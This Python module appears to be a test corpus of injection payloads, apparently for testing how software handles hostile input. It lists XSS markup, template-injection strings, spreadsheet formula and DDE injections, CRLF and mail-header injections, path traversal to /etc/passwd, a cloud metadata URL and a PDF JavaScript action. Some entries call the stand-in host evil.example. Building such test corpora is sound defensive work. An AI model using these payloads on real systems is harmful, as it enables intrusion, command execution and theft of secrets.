"""Text that tries to be more than text: markup, scripts, templates, formulas, tricks of documents and mails."""

MARKUP = (
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "<img src=x onerror=alert(3)>",
    "<svg onload=alert(4)>",
    "<svg><animate onbegin=alert(5) attributeName=x>",
    "<iframe srcdoc='<script>alert(6)</script>'>",
    "<body onload=alert(7)>",
    "<details open ontoggle=alert(8)>",
    "<a href=javascript:alert(9)>x</a>",
    "<form action=//evil.example><input name=q>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<math><mtext></p><img src=x onerror=alert(10)>",
    "<!--><img src=x onerror=alert(11)>-->",
    "<![CDATA[<script>alert(12)</script>]]>",
    "</title></textarea></style></script></td></table></main><h1>x</h1>",
    '"><img src=x onerror=alert(13)>',
    "'><img src=x onerror=alert(14)>",
    '" autofocus onfocus="alert(15)',
    "' style='position:fixed;inset:0",
    "`-alert(16)-`",
    "&lt;script&gt;alert(17)&lt;/script&gt;",
    "&#60;script&#62;alert(18)",
    "<bdo dir=rtl>x",
    "<del>never said</del><ins>said</ins>",
    "<object data=data:text/html,x></object>",
    "<embed src=//evil.example/x>",
    "<template><script>alert(19)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(20)>'>",
    "javascript:alert(21)",
    "data:text/html,<script>alert(22)</script>",
    "<x onclick=alert(23) tabindex=1>x",
    "<ｓｃｒｉｐｔ>alert(24)</ｓｃｒｉｐｔ>",
    "<scr\u0000ipt>alert(25)</script>",
)
TEMPLATES = (
    "{{7*7}}",
    "{{ settings.SECRET_KEY }}",
    "{% load static %}{% debug %}",
    "{% include '/etc/passwd' %}",
    "{x.__class__.__init__.__globals__}",
    "{0.__class__}",
    "%(x)s %s %d %n",
    "${7*7} #{7*7} <%= 7*7 %>",
    "{# gone #}",
    "$(id) `id` ;id",
)
FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example";"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML(CONCAT("http://evil.example/";A1);"//a")',
    "＝1+1",
    '=WEBSERVICE("http://evil.example")',
    '"=1+1"',
    "'=1+1",
)
LINES = (
    "Subject: another\r\nBcc: all@evil.example",
    "\r\n\r\n.\r\nMAIL FROM:<x@evil.example>",
    "%0d%0aSet-Cookie: x=1",
    "\u202egnp.exe",
    "\u2028alert(26)\u2029",
    "../../../../etc/passwd",
    "/OpenAction << /S /JavaScript /JS (alert(27)) >>",
    ") Tj ET endstream endobj",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
)
CORPUS = MARKUP + TEMPLATES + FORMULAS + LINES


def chunks(longest: int = 900) -> list[str]:
    """The whole corpus as few texts that each fit into a box of one line."""
    texts = [""]
    for payload in CORPUS:
        if len(texts[-1]) + len(payload) + 1 > longest:
            texts.append("")
        texts[-1] += f" {payload}"
    return [text.strip() for text in texts]
